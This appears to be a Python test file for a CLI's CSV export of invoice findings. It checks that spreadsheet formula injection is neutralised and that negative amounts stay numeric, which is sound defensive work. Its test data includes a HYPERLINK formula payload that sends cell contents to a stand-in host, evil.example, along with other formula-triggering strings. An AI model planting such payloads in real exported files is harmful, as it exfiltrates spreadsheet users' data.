"""``prisvagt findings --format csv`` neutralises spreadsheet formulas (OWASP) and
keeps numbers numbers (SQLite and PostgreSQL)."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from sqlalchemy import select
from typer.testing import CliRunner

from monitor.cli.main import app
from monitor.csvexport import safe_cell
from monitor.db import transaction
from monitor.findings.models import Finding
from monitor.invoices.models import Invoice, InvoiceLine
from tests.monitor.seed import seed_one_finding

runner = CliRunner()


def test_findings_csv_writes_formulas_as_text_and_negative_amounts_as_numbers(
    app_env: object,
) -> None:
    with transaction() as s:
        finding = seed_one_finding(s)
        invoice = s.get(Invoice, finding.invoice_id)
        line = s.scalars(select(InvoiceLine).where(InvoiceLine.invoice_id == invoice.id)).one()
        invoice.number = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'
        line.description = "@SUM(A1:A9)"
        line.item_id = "+1+2"
        finding.message = "=1+2"
        finding.overcharge = Decimal("-700.00")  # a credit note: money back
        finding.quantity = Decimal("-100")
    result = runner.invoke(app, ["findings", "--format", "csv"])
    assert result.exit_code == 0, result.output
    (row,) = list(csv.DictReader(io.StringIO(result.stdout)))
    assert row["invoice_number"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"Klik")'
    assert row["description"] == "'@SUM(A1:A9)"
    assert row["item_id"] == "'+1+2"
    assert row["message"] == "'=1+2"
    assert (row["overcharge"], row["quantity"]) == ("-700.00", "-100")
    assert (row["agreed_unit_price"], row["invoiced_unit_price"]) == ("125.00", "132.00")
    # the export changed nothing stored
    with transaction() as s:
        stored = s.scalars(select(Finding)).one()
        assert (stored.message, stored.overcharge) == ("=1+2", Decimal("-700.00"))


@pytest.mark.parametrize(
    ("value", "numeric", "written"),
    [
        ("=1+2", False, "'=1+2"),
        ("+45 12 34 56 78", False, "'+45 12 34 56 78"),
        ("-17", False, "'-17"),  # a text column is never trusted
        ("-17", True, "-17"),
        ("-1250.50", True, "-1250.50"),
        ("-1+2", True, "'-1+2"),  # not a plain number: neutralised in a numeric column too
        ("@SUM(A1)", False, "'@SUM(A1)"),
        ("\t=1", False, "'\t=1"),
        ("\r=1", False, "'\r=1"),
        ("＝1+2", False, "'＝1+2"),
        ("F-2026-0042", False, "F-2026-0042"),
        ("Drift = 2 stk", False, "Drift = 2 stk"),
        (None, False, None),
    ],
)
def test_safe_cell(value: str | None, numeric: bool, written: str | None) -> None:
    assert safe_cell(value, numeric=numeric) == written
